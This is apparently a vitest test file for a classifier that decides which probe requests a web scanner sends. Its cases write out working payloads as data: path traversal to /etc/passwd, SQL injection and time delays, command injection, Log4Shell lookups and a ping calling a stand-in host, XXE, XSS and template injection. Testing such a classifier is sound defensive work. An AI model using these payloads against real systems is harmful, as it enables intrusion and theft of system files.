import { describe, expect, test } from "vitest";

import {
  ACTING_NAMES,
  BODY_ORDERS,
  COSTLY_VALUES,
  DISGUISED_COMMANDS,
  ENCODED_ORDERS,
  EXCUSED_ORDERS,
  EXECUTED_VALUES,
  HEADER_ORDERS,
  METHOD_OVERRIDES,
  type DisguisedRequest,
} from "../testing/disguised-requests.ts";
import { classifyRequest } from "./classify-request.ts";

const SITE = "https://www.acme.test/";
const harmOf = ([method, target, body = "", headers = {}]: DisguisedRequest) =>
  classifyRequest({ method, url: `https://www.acme.test${target}`, headers, body }, SITE, "calls.example.net").harm;
const sent = (requests: readonly DisguisedRequest[]) => requests.filter((request) => harmOf(request) !== "change");

const FORM = { "Content-Type": "application/x-www-form-urlencoded" };
const JSON_BODY = { "Content-Type": "application/json" };
const typeOf = (text: string): string =>
  /^\s*</.test(text) ? "application/xml" : /^\s*[[{]/.test(text) ? "application/json" : "application/octet-stream";

describe("nothing is sent that hides", () => {
  test.each<[string, readonly DisguisedRequest[], number]>([
    ["a statement in an encoding, a comment or another alphabet", ENCODED_ORDERS, 80],
    ["a command", DISGUISED_COMMANDS, 88],
    ["another method", METHOD_OVERRIDES, 40],
    ["an order in a header or cookie", HEADER_ORDERS, 43],
    ["an order in a body", BODY_ORDERS, 85],
    ["an order behind a proof or a name that reads", EXCUSED_ORDERS, 50],
  ])("%s", (_, requests, least) => {
    expect(requests.length).toBeGreaterThanOrEqual(least);
    expect(sent(requests)).toEqual([]);
  });

  test("an object, the name of its type or an expression that executes, wherever it stands", () => {
    const places = (value: string): readonly DisguisedRequest[] => {
      const text = encodeURIComponent(value);
      return [
        ["GET", `/a?x=${text}`],
        ["POST", "/search?p={{7*7}}", `x=${text}`, FORM],
        ["POST", "/search?p={{7*7}}", value, { "Content-Type": typeOf(value) }],
        ["POST", "/search", JSON.stringify({ x: value }), JSON_BODY],
        ["GET", "/a", "", { "X-Data": value }],
        ["GET", "/a", "", { Cookie: `a=${text}` }],
      ];
    };
    expect(EXECUTED_VALUES.length).toBeGreaterThanOrEqual(150);
    expect(sent(EXECUTED_VALUES.flatMap(places))).toEqual([]);
  });

  test("what never ends, occupies a database, holds for every row or calls a page of its own", () => {
    const places = (value: string): readonly DisguisedRequest[] => {
      const text = encodeURIComponent(value);
      return [
        ["GET", `/item?id=${text}`],
        ["GET", `/item?id=${encodeURIComponent(text)}`],
        ["POST", "/search", `id=${text}`, FORM],
        ["GET", "/item", "", { Cookie: `id=${text}` }],
      ];
    };
    expect(sent(COSTLY_VALUES.flatMap(places))).toEqual([]);
  });

  test("a document that grows, a question without an end, and a form that is kept", () => {
    const deep = `{"query":"{${"a{".repeat(20)}b${"}".repeat(20)}}"}`;
    const many = JSON.stringify(Array.from({ length: 50 }, () => ({ query: "{__typename}" })));
    const growing = [
      '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b; &b; &b;"><!ENTITY d "&c; &c;">]><a>&d;</a>',
      "<!DOCTYPE a [<!ENTITY b 'bb'><!ENTITY c '&b;&b;'><!ENTITY d '&c;&c;'>]><a>&d;</a>",
      "<!DOCTYPE a [<!ENTITY % b 'x'><!ENTITY % c '%b;%b;'>%c;]><a/>",
      `<!DOCTYPE a [<!ENTITY b '${"x".repeat(500)}'>]><a>${"&b;".repeat(100)}</a>`,
    ];
    expect(
      sent([
        ["POST", "/graphql", deep, JSON_BODY],
        ["POST", "/graphql", many, JSON_BODY],
        ...growing.map((body): DisguisedRequest => ["POST", "/api/search", body, { "Content-Type": "text/xml" }]),
        ...["order", "booking", "contact-us", "api/comments", "newsletter", "poll.php", "reservation", "forgot"].map(
          (page): DisguisedRequest => ["POST", `/${page}`, "name={{7*7}}", FORM],
        ),
      ]),
    ).toEqual([]);
    expect(sent([["POST", "/api/orders/search", "name={{7*7}}", FORM]])).toHaveLength(1);
  });

  test("an address that a cache could hand to others", () => {
    const named = [
      ["X-Forwarded-Host", "p1.calls.example.net"],
      ["X-Forwarded-Scheme", "nothttps"],
      ["X-Forwarded-Port", "1"],
      ["X-Forwarded-Prefix", "/p1"],
      ["Forwarded", "host=p1.calls.example.net"],
    ] as const;
    expect(sent(named.map(([name, value]) => ["GET", "/", "", { [name]: value }]))).toEqual([]);
    expect(sent(named.map(([name, value]) => ["GET", "/?x=p1a2b3", "", { [name]: value }]))).toHaveLength(named.length);
    expect(sent([["GET", "/?x=p1a2b3", "", { Forwarded: "for=1;host=evil.example.co" }]])).toEqual([]);
  });

  test("the name of an action in another language or product, beside a proof or alone", () => {
    const places = (word: string): readonly DisguisedRequest[] => [
      ["GET", `/${word}`],
      ["GET", `/admin/${word}.php?q={{7*7}}`],
      ["GET", `/a.php?action=${word}&q={{7*7}}`],
      ["GET", `/a.php?${word}=1&q={{7*7}}`],
      ["GET", "/a", "", { "X-Action": word }],
      ["GET", "/a", "", { SOAPAction: `urn:x#${word}` }],
      ["POST", "/search", JSON.stringify({ cmd: word, q: "{{7*7}}" }), JSON_BODY],
    ];
    expect(ACTING_NAMES.length).toBeGreaterThanOrEqual(400);
    expect(sent(ACTING_NAMES.flatMap(places))).toEqual([]);
  });
});

describe("what reads is recognised in the same disguises:", () => {
  test.each<[string, DisguisedRequest]>([
    ["a path, encoded twice", ["GET", "/read?file=..%252f..%252f..%252fetc%252fpasswd"]],
    ["a path in Base64", ["GET", `/read?file=${btoa("../../../etc/passwd")}`]],
    ["a question with comments", ["GET", "/a?id=-1/**/union/**/select/**/md5(31337)"]],
    ["a calculation, encoded", ["GET", "/a?name=%7B%7B1337*42%7D%7D"]],
    ["a lookup in a cookie", ["GET", "/a", "", { Cookie: "a=${jndi:ldap://p1.calls.example.net/a}" }]],
    ["a command with a bounded wait", ["POST", "/diag", "host=1;ping -c 3 p1.calls.example.net", FORM]],
    [
      "an entity",
      ["POST", "/api/search", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a><!-- x -->&x;</a>"],
    ],
    ["a wait behind a condition", ["GET", "/a?id=1' or sleep(5)-- -"]],
    ["a wait in a question of its own", ["GET", "/a?id=(select(0)from(select(sleep(6)))v)"]],
    ["an error that shows a digest", ["GET", "/a?id=1' or extractvalue(1,concat(0x7e,md5(1)))-- -"]],
    ["a condition that holds never", ["GET", "/a?id=1 or 1=2"]],
    ["the variables of a process", ["GET", "/a?file=../../../../proc/self/environ"]],
    ["a search with a selection", ["GET", "/odata?$filter=a&q={{7*7}}"]],
    ["a command between separators", ["GET", "/a?h=;id;"]],
    ["a command that a comment follows", ["POST", "/a", "h=%22;cat+/etc/passwd+%23%23", FORM]],
    ["a command in backquotes", ["GET", "/a?h=8.8.8.8`id`"]],
    ["a condition that closes its quotes", ["GET", "/a?id=1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))x) AND 'a'='a"]],
    ["a call inside a script of the page", ["GET", "/a?x=%27-alert(document.domain)-%27"]],
    ["the same, which a comment ends", ["GET", "/a?x=';alert(1);//"]],
    ["a lookup of constants", ["GET", "/a?x=${jndi:ldap://${:-5}${:-7}.${hostName}.p1.calls.example.net/a}"]],
    ["a path in a header", ["GET", "/", "", { Accept: "../../../../../etc/passwd{{" }]],
    ["a path in a cookie", ["GET", "/", "", { Cookie: "lang=en; theme=../../../../etc/passwd" }]],
    ["the release of a system", ["GET", "/a?fileName=/etc/f5-release"]],
    [
      "a call by its identifier",
      [
        "POST",
        "/a.asmx",
        "<a>\\\\p1.calls.example.net\\x</a>",
        { SOAPAction: '"http://tempuri.org/GetHashForSingleFile"' },
      ],
    ],
    ["a call of a plug-in that reads", ["POST", "/wp-admin/admin-ajax.php", "action=acme_get_items", FORM]],
    ["a documented question", ["POST", "/minio/bootstrap/v1/verify"]],
    ["a file of a development server", ["GET", "/@fs/etc/passwd?import&raw??"]],
    ["a page of a list", ["GET", "/a?start=0&submit=Search&q={{7*7}}"]],
    ["details by their number", ["POST", "/api/user/details", "id=1", FORM]],
    ["a map", ["GET", "/geoserver/ows?service=WFS&request=GetCapabilities"]],
  ])("%s", (_, request) => expect(harmOf(request)).toBe("prove"));
});
